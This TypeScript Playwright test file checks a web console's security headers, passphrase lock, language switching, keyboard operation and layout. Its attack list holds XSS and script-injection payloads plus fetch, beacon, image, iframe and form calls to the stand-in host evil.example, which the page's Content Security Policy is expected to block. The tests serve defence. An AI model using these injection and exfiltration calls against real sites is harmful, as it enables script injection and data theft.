import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pageHeaders } from "../../src/http/page-headers.ts";
import { openBrowser, overflowOf, SIZES, seriousFaults, watchedPage } from "../support/browser.ts";
import { type ServedPages, servePages } from "../support/served-pages.ts";
import { type TempDir, tempDir } from "../support/temp-dir.ts";
import { PRETEND_PASSPHRASE } from "./pretend-door-port.ts";

const PLACE = { apiOrigin: null, isSecure: false };
declare const trusted: () => { createPolicy(name: string, rules: object): unknown };
declare const postForm: () => void;
/** This browser knows no such feature; the header is the one that is asked for. */
const KNOWN_COMPLAINT = /Unrecognized feature: 'bluetooth'/;

let folder: TempDir;
let server: ServedPages;
let browser: Browser;

beforeAll(async () => {
  folder = await tempDir();
  [browser, server] = await Promise.all([openBrowser(), servePages("test/browser/pretend-worker.ts")]);
});
afterAll(async () => {
  await Promise.all([browser.close(), server.close(), folder.remove()]);
});

const open = async (size: (typeof SIZES)["phone" | "desk"] = SIZES.desk, more = {}) => {
  const watched = await watchedPage(browser, size, more);
  await watched.page.goto(server.url);
  await watched.page.locator(".who-button").first().waitFor();
  return { ...watched, complaints: () => watched.complaints.filter((one) => !KNOWN_COMPLAINT.test(one)) };
};

const enter = async (page: Page) => {
  await page.locator(".who-button").first().click();
  await page.locator(".queue-group").first().waitFor();
};

/**
 * What somebody would try who got a foot into the page, and where it should end: at a rule of the page, by its name.
 * `window.hacked` is set by what is not stopped.
 */
const ATTEMPTS: readonly (readonly [string, () => unknown, string])[] = [
  [
    "markup",
    () => Object.assign(document.body, { innerHTML: "<img src=x onerror='hacked=1'>" }),
    "require-trusted-types-for",
  ],
  ["markup beside", () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"), "require-trusted-types-for"],
  // biome-ignore lint/security/noGlobalEval: it is what must be stopped.
  ["a text as code", () => globalThis.eval("globalThis.hacked = 1"), "require-trusted-types-for"],
  ["a function of text", () => new Function("globalThis.hacked = 1")(), "require-trusted-types-for"],
  ["a later text", () => setTimeout("globalThis.hacked = 1" as unknown as () => void, 0), "require-trusted-types-for"],
  ["a handler of text", () => document.body.setAttribute("onclick", "hacked=1"), "require-trusted-types-for"],
  [
    "a script inside",
    () => document.body.append(Object.assign(document.createElement("script"), { text: "hacked=1" })),
    "require-trusted-types-for",
  ],
  [
    "a script from elsewhere",
    () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" })),
    "require-trusted-types-for",
  ],
  ["a worker of text", () => new Worker(URL.createObjectURL(new Blob(["1"]))), "require-trusted-types-for"],
  ["a policy of its own", () => trusted().createPolicy("mine", {}), "trusted-types"],
  ["our policy once more", () => trusted().createPolicy("pana-worker", {}), "trusted-types"],
  ["style inside", () => document.body.setAttribute("style", "color: red"), "style-src-attr"],
  ["a message to elsewhere", () => fetch("https://evil.example/?words").catch(() => null), "connect-src"],
  ["a beacon", () => navigator.sendBeacon("https://evil.example/", "words"), "connect-src"],
  ["a picture from elsewhere", () => Object.assign(new Image(), { src: "https://evil.example/?words" }), "img-src"],
  [
    "a frame",
    () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
    "frame-src",
  ],
  ["a form to elsewhere", () => postForm(), "form-action"],
];

describe("the pages in a browser", () => {
  it("are served with exactly the headers of a console", async () => {
    const { page, context } = await open();
    const answer = await page.request.get(server.url);
    for (const [name, value] of Object.entries(pageHeaders(PLACE))) {
      expect(answer.headers()[name.toLowerCase()], name).toBe(value);
    }
    await context.close();
  });

  it("run libsodium in their Worker, and give the browser nothing to complain about", async () => {
    const { page, complaints, context } = await open();
    expect(page.workers()).toHaveLength(1);
    // The pretend desk answers only once libsodium has started there.
    await enter(page);
    for (const part of ["referrals", "house", "members", "audit", "queue"]) {
      await page.locator(`nav a[href="#/${part}"]`).click();
      await page.locator("main h1").first().waitFor();
    }
    expect(complaints()).toEqual([]);
    await context.close();
  });

  it.each(ATTEMPTS)(
    "stop %s",
    async (_name, attempt, rule) => {
      const { page, context } = await open();
      const stopped = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
          }),
      );
      await page.evaluate(helpers);
      // In a turn of its own: what is run by the debugger itself may evaluate texts.
      await page.evaluate(`void setTimeout(() => { try { (${attempt})() } catch {} }, 0)`);
      expect(await stopped).toBe(rule);
      expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
      await context.close();
    },
    20_000,
  );

  it("let nobody in with a wrong passphrase, and go on where she was after the right one", async () => {
    const { page, context } = await open();
    await enter(page);
    await page.locator('nav a[href="#/house"]').click();
    await page.locator("header .icon-button").first().click();
    const passphrase = page.locator('input[autocomplete="current-password"]');
    await passphrase.fill("a wrong one, though long");
    await page.keyboard.press("Enter");
    await page.locator(".field-error").waitFor();
    expect(await page.locator(".field-error").innerText()).toContain("Проверьте фразу");
    expect(await passphrase.inputValue()).toBe("");
    await passphrase.fill(PRETEND_PASSPHRASE);
    await page.keyboard.press("Enter");
    await page.locator('nav a[aria-current="page"][href="#/house"]').waitFor();
    await context.close();
  });

  it("change the language at once, and keep it on this device", async () => {
    const { page, context } = await open();
    const langBesideWords = page.evaluate(langWhenHeadingIs, "Сіз кімсіз?");
    await page.locator(".preference-fields select").first().selectOption("kk");
    expect(await langBesideWords).toBe("kk");
    await page.reload();
    await page.getByRole("heading", { name: "Сіз кімсіз?" }).waitFor();
    await context.close();
  });

  it("take the secret of a link out of the address and its history", async () => {
    const { page, context } = await open();
    await page.goto(`${server.url}#invitation=${"t".repeat(32)}`);
    await page.locator('input[autocomplete="new-password"]').first().waitFor();
    expect(page.url()).toBe(server.url);
    await context.close();
  });

  it("are worked by keyboard alone: down the queue, claim, show the keys", async () => {
    const { page, context } = await open();
    await page.keyboard.press("Tab");
    await page.locator(".who-button").first().focus();
    await page.keyboard.press("Enter");
    await page.locator(".queue-group").first().waitFor();
    await page.keyboard.press("j");
    await page.keyboard.press("j");
    const second = page.locator(".queue-link").nth(1);
    expect(await second.evaluate((link) => link === document.activeElement)).toBe(true);
    await page.keyboard.press("k");
    await page.keyboard.press("c");
    await page.waitForURL(/#\/case\//);
    await page.keyboard.press("?");
    await page.locator("dialog[open]").waitFor();
    await page.keyboard.press("Escape");
    await page.locator("dialog[open]").waitFor({ state: "detached" });
    await context.close();
  });

  it.each([
    ["phone", "ru", "light"],
    ["phone", "kk", "dark"],
    ["phone", "en", "light"],
    ["desk", "ru", "dark"],
    ["desk", "kk", "light"],
    ["desk", "en", "dark"],
  ] as const)("are whole and readable for everybody: %s, %s, %s", async (size, locale, colorScheme) => {
    const { page, context } = await open(SIZES[size], { locale, colorScheme });
    const look = async (name: string) => {
      await page.screenshot({ path: join(folder.path, `${name}-${size}-${locale}.png`) });
      expect([name, await overflowOf(page), await seriousFaults(page)]).toEqual([name, 0, []]);
    };
    await look("door");
    await enter(page);
    await look("queue");
    await page.locator("header .icon-button").last().click();
    await page.locator("dialog[open]").waitFor();
    await look("menu");
    await page.keyboard.press("Escape");
    await page.locator("header .icon-button").first().click();
    await page.locator("form").first().waitFor();
    await look("locked");
    await context.close();
  });
});

/** What the page says its language is at the moment when this heading appears, before anything is drawn. */
function langWhenHeadingIs(heading: string): Promise<string> {
  return new Promise((resolve) => {
    const look = (_changes: unknown, watch: MutationObserver) => {
      if ([...document.querySelectorAll("h1")].every(({ textContent }) => textContent !== heading)) return;
      watch.disconnect();
      resolve(document.documentElement.lang);
    };
    new MutationObserver(look).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
}

/** What two of the attempts need in the page. */
function helpers(): void {
  Object.assign(globalThis, {
    trusted: () => (globalThis as unknown as { readonly trustedTypes: unknown }).trustedTypes,
    postForm() {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
      document.body.append(form);
      form.submit();
    },
  });
}
